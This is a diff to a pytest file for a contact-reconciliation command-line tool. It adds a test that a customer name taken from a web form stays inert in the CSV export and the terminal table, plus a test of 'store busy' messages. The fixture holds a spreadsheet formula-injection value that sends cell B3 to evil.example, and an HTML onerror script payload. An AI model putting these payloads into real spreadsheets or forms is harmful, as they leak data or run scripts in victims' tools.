@@ -30,6 +30,7 @@ from contact_recon.store.db import open_db
 from tests.support.servers import Sandboxes
 from tests.support.worlds import RATE_SCALE, World, awkward_fixture, loose_policy, make_settings
 
+FORMULA, HTML = '=HYPERLINK("http://evil.example/?leak="&B3,"Click")', "<img src=x onerror=alert(1)>[bold]"
 UK_SAME, UK_OTHER, TE_BAD, UNSUB, GONE = "uk_same", "uk_other", "te_bad_phone", "unsubscribed", "deleted"
 
 
@@ -62,6 +63,7 @@ def review_fixture() -> tuple[dict[str, Any], dict[str, list[str]]]:
         customer.pop("country", None)
         customer["phone"] = te_phone
     te_bad["phone"], customers[te_bad["email"]]["phone"] = "+14155550142", "call me maybe"
+    uk_other["firstName"], uk_other["lastName"] = FORMULA, HTML  # from a web form
     customers[unsub["email"]]["status"] = "Unsubscribed"
     edited |= {UK_SAME: [uk_same["id"]], UK_OTHER: [uk_other["id"]], TE_BAD: [te_bad["id"]], UNSUB: [unsub["id"]],
                GONE: [gone["id"]]}
@@ -112,8 +114,8 @@ def decided(path: Path, conflicts: Path, answers: dict[tuple[str, str], tuple[st
     return path
 
 
-def recon(w: World, monkeypatch: pytest.MonkeyPatch, *args: str) -> Any:
-    for name, value in {**w.env(), "COLUMNS": "250"}.items():
+def recon(w: World, monkeypatch: pytest.MonkeyPatch, *args: str, columns: str = "250") -> Any:
+    for name, value in {**w.env(), "COLUMNS": columns}.items():
         monkeypatch.setenv(name, value)
     return CliRunner().invoke(app, list(args))
 
@@ -157,6 +159,13 @@ def test_conflicts_csv_names_the_person_and_counts_the_nights_a_conflict_is_open
     quarantined_te = first.checks.quarantined.filter(pl.col("expectation") == "phone_e164")["email"].to_list()
     uk_emails = {r["email"] for r in rows_of(first.conflicts_path) if r["key"] == one(world, UK_OTHER)}
     assert not uk_emails & set(quarantined_te)
+
+    # a name from a web form: inert in the file, read back as it was, shown as plain text
+    cell = next(r for r in rows_of(first.conflicts_path) if r["key"] == one(world, UK_OTHER))["name"]
+    assert cell == f"'{FORMULA} {HTML}" and other["name"] == f"{FORMULA} {HTML}"
+    assert listed(world, monkeypatch)[(one(world, UK_OTHER), "phone")]["name"] == f"{FORMULA} {HTML}"
+    table = recon(world, monkeypatch, "conflicts", "list", columns="3000")  # one line per row: no folding
+    assert table.exit_code == 0 and f"{FORMULA} {HTML}" in table.output  # never read as markup
 
     # the next day, late at night: the conflict is one night old and keeps its first_seen
     clock.now += dt.timedelta(days=1, hours=11, minutes=30)
@@ -290,3 +299,28 @@ def test_skip_acknowledges_a_deletion_and_a_consent_loosening_until_they_change(
     fourth = world.plan(reuse_snapshot=True)
     assert by_conflict(fourth.conflicts_path)[(gone, "")]["reason"] == "deleted_in_ghl"
     assert (gone, None) in listed(world, monkeypatch)
+
+
+@pytest.mark.parametrize("args", [("conflicts", "list"), ("conflicts", "list", "--json"),
+                                  ("conflicts", "undo", "c1", "phone")])
+def test_the_conflict_commands_say_store_busy_while_a_run_holds_the_store(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: tuple[str, ...]) -> None:
+    from contact_recon.cli import report as review
+    from contact_recon.store.db import db_path
+    from tests.e2e.test_store_busy import hold, release
+
+    monkeypatch.setenv("RECON_DATA_DIR", str(tmp_path))
+    with open_db(db_path(tmp_path)):
+        pass
+    holder = hold(db_path(tmp_path), 30)
+    try:
+        monkeypatch.setattr(review, "REVIEW_WAIT_S", 0.5)
+        busy = CliRunner().invoke(app, list(args))
+        assert busy.exit_code == 1 and "store busy" in busy.output and "Traceback" not in busy.output, busy.output
+    finally:
+        release(holder)
+    answered = CliRunner().invoke(app, list(args))
+    assert answered.exit_code == (1 if "undo" in args else 0), answered.output
+    assert "store busy" not in answered.output
+    assert ("[]" if "--json" in args else "no open conflicts" if "list" in args else "nothing to undo") in \
+        answered.output
